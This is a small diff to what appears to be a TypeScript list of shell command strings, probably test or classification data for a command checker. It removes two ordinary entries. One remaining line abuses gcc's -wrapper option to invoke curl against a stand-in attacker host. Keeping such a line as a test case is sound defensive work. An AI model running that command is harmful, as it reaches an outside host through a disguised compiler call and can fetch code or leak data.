@@ -7,8 +7,6 @@ export const GAPS: ReadonlySet<string> = new Set([
   "twurl -d 'status=hi' /1.1/statuses/update.json",
   "gcc -wrapper curl,https://evil.example x.c",
   "eas build --platform ios",
-  "hugo mod get -u",
-  "travis restart 123",
   "freshclam",
   "ionic info",
   "rclone ls /tmp/data",
